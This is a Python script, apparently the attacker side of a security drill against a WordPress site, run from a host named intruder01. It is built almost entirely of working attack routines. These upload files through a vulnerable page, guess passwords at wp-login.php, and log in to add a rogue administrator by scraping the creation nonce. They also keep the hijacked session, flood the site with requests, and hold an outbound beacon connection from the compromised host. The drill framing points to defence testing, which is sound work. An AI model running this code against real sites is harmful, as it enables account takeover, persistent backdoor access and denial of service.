"""What the intruder does from intruder01: stdlib only, piped to `python3 -` on that host. One JSON document on stdout.

    upload ADDRESS NAME PAGE FILE…   post files (name=base64) through the weak page
    get ADDRESS NAME PATH [AGENT]    one request; status, SHA-256 and text
    post ADDRESS NAME PATH NAME=TEXT…   one form, sent; status, where it leads, text
    send ADDRESS NAME PATH FIELD FILE   post one file (name=base64) as a form's attachment
    guess ADDRESS NAME LOGIN:RIGHT SOURCE COUNT RATE   wrong passwords at WordPress's login, then the right one
    login ADDRESS NAME LOGIN:PASSWORD   whether that password logs in
    enter ADDRESS NAME LOGIN:PASSWORD SOURCE LOGIN:PASSWORD   log in, add an administrator, keep the session
    inside ADDRESS NAME SOURCE       whether the kept session still opens the administration
    ask ADDRESS NAME PATH COUNT RATE   numbered requests at a rate; how many were answered with what
    flood ADDRESS NAME PATH COUNT RATE LOG   the same, and goes on until it is cut off; note each answer's time
    hold ADDRESS NAME LOG SECONDS    keep one HTTP connection alive, note each answer's time
    listen PORT LOG SECONDS          accept one connection from the host, note when each line arrives
    call ADDRESS PORT SECONDS        (on the host) keep one connection outwards alive

Times are seconds since the epoch. Each loop ends by itself. SOURCE: which of its own addresses is used.
"""

import base64
import hashlib
import http.client
import json
import re
import socket
import sys
import time
import urllib.parse
from pathlib import Path

_SESSION = Path("/run/ungcuu-drill-session")
_BEAT = 0.2
_SILENCE = 5.0  # a busy host answers late; the time of the last answer shows when it was cut


def _asked(
    address: str, name: str, request: str, body: bytes | str = b"", source: str = "", **headers: str
) -> dict[str, object]:
    """One request, METHOD and PATH, and its answer. Status 0 where nothing answered."""
    method, _, path = request.partition(" ")
    connection = http.client.HTTPConnection(address, 80, timeout=8, source_address=(source, 0) if source else None)
    try:
        lines = {"Host": name, **{key.replace("_", "-"): value for key, value in headers.items() if value}}
        connection.request(method, path, body or None, lines)
        answer = connection.getresponse()
        content = answer.read()
    except OSError as error:
        return {"status": 0, "error": type(error).__name__}
    cookies = "; ".join(one.partition(";")[0] for one in answer.headers.get_all("Set-Cookie") or [])
    found = {"status": answer.status, "to": answer.getheader("Location", ""), "cookies": cookies}
    return {**found, "sha256": hashlib.sha256(content).hexdigest(), "text": content.decode("utf-8", "replace")}


def _heard(answer: dict[str, object]) -> dict[str, object]:
    """The answer; where nothing answered, whether somebody gets in is not known, and this program ends."""
    if answer["status"] == 0:
        raise SystemExit(f"no answer: {answer['error']}")
    return answer


def get(address: str, name: str, path: str, agent: str = "Mozilla/5.0") -> dict[str, object]:
    """One request, read as a visitor would."""
    return _asked(address, name, f"GET {path}", User_Agent=agent)


def upload(address: str, name: str, page: str, *files: str) -> list[dict[str, object]]:
    """Post each NAME=BASE64 through the weak page."""
    said: list[dict[str, object]] = []
    for item in files:
        target, _, content = item.partition("=")
        body = urllib.parse.urlencode({"name": target, "content": base64.b64decode(content) and content})
        connection = http.client.HTTPConnection(address, 80, timeout=15)
        headers = {"Host": name, "Content-Type": "application/x-www-form-urlencoded"}
        connection.request("POST", page, body, headers)
        answer = connection.getresponse()
        said.append({"name": target, "status": answer.status, "text": answer.read().decode("utf-8", "replace")[:200]})
    return said


def post(address: str, name: str, path: str, *fields: str, source: str = "", cookie: str = "") -> dict[str, object]:
    """One form, sent. Status 0 where nothing answered."""
    body = urllib.parse.urlencode([field.partition("=")[::2] for field in fields])
    form = "application/x-www-form-urlencoded"
    answer = _asked(address, name, f"POST {path}", body, source, Content_Type=form, Cookie=cookie)
    return {**answer, "text": str(answer.get("text", ""))[:4000]}


def send(address: str, name: str, path: str, field: str, file: str) -> dict[str, object]:
    """One file, sent as browsers send an attachment."""
    target, _, content = file.partition("=")
    head = f'--drill\r\nContent-Disposition: form-data; name="{field}"; filename="{target}"\r\n\r\n'
    body = head.encode() + base64.b64decode(content) + b"\r\n--drill--\r\n"
    return _asked(address, name, f"POST {path}", body, Content_Type="multipart/form-data; boundary=drill")


def _let_in(address: str, name: str, account: str, source: str = "") -> dict[str, object]:
    """Log in to WordPress; `in`: whether it did."""
    login, _, word = account.partition(":")
    answer = post(address, name, "/wp-login.php", f"log={login}", f"pwd={word}", source=source)
    return {**answer, "in": answer["status"] == 302 and "wp-admin" in str(answer["to"])}


def login(address: str, name: str, account: str) -> dict[str, object]:
    """Whether a password logs in."""
    answer = _heard(_let_in(address, name, account))
    return {"in": answer["in"], "status": answer["status"]}


def guess(address: str, name: str, account: str, source: str, *pace: str) -> dict[str, object]:
    """Wrong passwords at a rate a second until nothing answers, then the right one; `in`: whether that one got in."""
    count, rate = pace
    wrong, status = 0, 200
    for number in range(int(count)):
        status = int(str(_let_in(address, name, f"{account.partition(':')[0]}:no-{number}", source)["status"]))
        if status == 0:
            break
        wrong += 1
        time.sleep(1 / float(rate))
    return {"wrong": wrong, "banned": status == 0, "in": _let_in(address, name, account, source)["in"]}


def enter(address: str, name: str, account: str, source: str, own: str) -> dict[str, object]:
    """Log in with the guessed password, and add an administrator of one's own by the application's form."""
    came, at = _let_in(address, name, account, source), "/wp-admin/user-new.php"
    cookie = str(came.get("cookies", ""))
    page = str(_asked(address, name, f"GET {at}", source=source, Cookie=cookie).get("text", ""))
    proof = re.search(r'name="_wpnonce_create-user" value="(\w+)"', page)
    login, _, word = own.partition(":")
    fields = {"action": "createuser", "_wpnonce_create-user": proof[1] if proof else "", "role": "administrator"}
    fields |= {"user_login": login, "email": f"{login}@mail.invalid", "pass1": word, "pass2": word, "pw_weak": "on"}
    made = post(address, name, at, *map("=".join, fields.items()), source=source, cookie=cookie)
    _SESSION.write_text(cookie, encoding="ascii")
    return {"in": came["in"], "made": made["status"] == 302 and "users.php" in str(made["to"]), "form": bool(proof)}


def inside(address: str, name: str, source: str) -> dict[str, object]:
    """Whether the kept session still opens the administration."""
    cookie = _SESSION.read_text("ascii")
    answer = _heard(_asked(address, name, "GET /wp-admin/profile.php", source=source, Cookie=cookie))
    return {"inside": answer["status"] == 200}


def ask(address: str, name: str, path: str, count: str, rate: str) -> dict[str, object]:
    """At most so many requests at a rate a second; how many were answered."""
    statuses: dict[str, int] = {}
    for number in range(int(count)):
        begun = time.monotonic()
        status = str(get(address, name, f"{path}{number}")["status"])
        statuses[status] = statuses.get(status, 0) + 1
        if statuses.get("0", 0) >= 3:  # blocked: three silences say so
            break
        time.sleep(max(0.0, 1 / float(rate) - (time.monotonic() - begun)))
    return {"answered": sum(number for status, number in statuses.items() if status != "0"), "statuses": statuses}


def _note(log: str, **values: object) -> None:
    Path(log).write_text(json.dumps(values), encoding="ascii")


def flood(address: str, name: str, path: str, *rest: str) -> None:
    """At most so many requests at a rate a second, each over a connection of its own, until there is no answer."""
    count, rate, log = rest
    last = 0.0
    for number in range(int(count)):
        begun = time.monotonic()
        if get(address, name, f"{path}{number}")["status"] == 0:
            break
        last = time.time()
        _note(log, answers=number + 1, last=last, alive=True)
        time.sleep(max(0.0, 1 / float(rate) - (time.monotonic() - begun)))
    _note(log, last=last, alive=False)


def hold(address: str, name: str, log: str, seconds: str) -> None:
    """Ask over one and the same connection until it falls silent."""
    connection = http.client.HTTPConnection(address, 80, timeout=_SILENCE)
    answers, last, end = 0, 0.0, time.time() + float(seconds)
    try:
        while time.time() < end:
            connection.request("HEAD", "/wp-includes/images/blank.gif", headers={"Host": name})
            connection.getresponse().read()
            answers, last = answers + 1, time.time()
            _note(log, answers=answers, last=last, alive=True)
            time.sleep(_BEAT)
    except (OSError, http.client.HTTPException):
        _note(log, answers=answers, last=last, alive=False)


def listen(port: str, log: str, seconds: str) -> None:
    """Wait for the host to call, and note each line that comes."""
    lines, last, end = 0, 0.0, time.time() + float(seconds)
    with socket.create_server(("", int(port))) as server:
        server.settimeout(float(seconds))
        peer, _ = server.accept()
        peer.settimeout(_SILENCE)
        try:
            while time.time() < end and peer.recv(64):
                lines, last = lines + 1, time.time()
                _note(log, answers=lines, last=last, alive=True)
        except OSError:
            pass
    _note(log, answers=lines, last=last, alive=False)


def call(address: str, port: str, seconds: str) -> None:
    """From the host: a connection outwards, one line each beat."""
    end = time.time() + float(seconds)
    with socket.create_connection((address, int(port)), timeout=5) as peer:
        peer.settimeout(_SILENCE)
        while time.time() < end:
            peer.sendall(b"beat\n")
            time.sleep(_BEAT)


if __name__ == "__main__":
    print(json.dumps(globals()[sys.argv[1]](*sys.argv[2:])))
